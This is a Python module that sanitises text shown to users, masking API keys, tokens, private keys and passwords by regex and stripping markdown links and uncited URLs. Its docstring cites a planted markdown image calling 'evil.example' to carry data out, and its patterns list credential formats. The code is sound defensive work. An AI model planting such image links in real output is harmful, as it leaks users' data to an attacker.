"""Last line of defence on everything a user sees: secrets masked, links limited to cited sources.

Internal front matter fields and internal sections never reach the index (see ingest.py); this
module handles what document bodies themselves may contain."""
from __future__ import annotations

import re
from urllib.parse import urlparse

MASK = "[redacted]"

_SECRETS = [
    re.compile(r"xox[abposr]-[A-Za-z0-9-]{10,}"),  # Slack tokens
    re.compile(r"xapp-\d-[A-Za-z0-9-]{10,}"),
    re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),  # AWS access key ids
    re.compile(r"\b(?:sk|pk|rk)_(?:live|test)_[0-9A-Za-z]{10,}\b"),  # Stripe-style keys
    re.compile(r"\bsk-[A-Za-z0-9_-]{20,}\b"),  # OpenAI-style keys
    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}\b"),  # GitHub tokens
    re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)", re.S),
    re.compile(r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{16,}"),
    re.compile(r"(?i)\b(?:password|passwd|pwd|secret|api[_ -]?key|token)\s*[:=]\s*\S+"),
]
_URL = re.compile(r"https?://[^\s<>)\]|\"']+")
_MD_LINK = re.compile(r"!?\[([^\]]*)\]\(([^)\s]*)[^)]*\)")


def mask_secrets(text: str) -> str:
    for pattern in _SECRETS:
        text = pattern.sub(MASK, text)
    return text


def limit_links(text: str, allowed_urls: list[str]) -> str:
    """Markdown links and images become their label; bare URLs survive only when they point at a
    host we cite, so a planted `![x](https://evil.example/?q=…)` cannot carry data out."""
    hosts = {urlparse(url).netloc for url in allowed_urls if url}
    text = _MD_LINK.sub(lambda m: m.group(1), text)
    return _URL.sub(lambda m: m.group(0) if urlparse(m.group(0)).netloc in hosts else "[link removed]", text)


def clean_for_user(text: str, allowed_urls: list[str]) -> str:
    return limit_links(mask_secrets(text), allowed_urls)
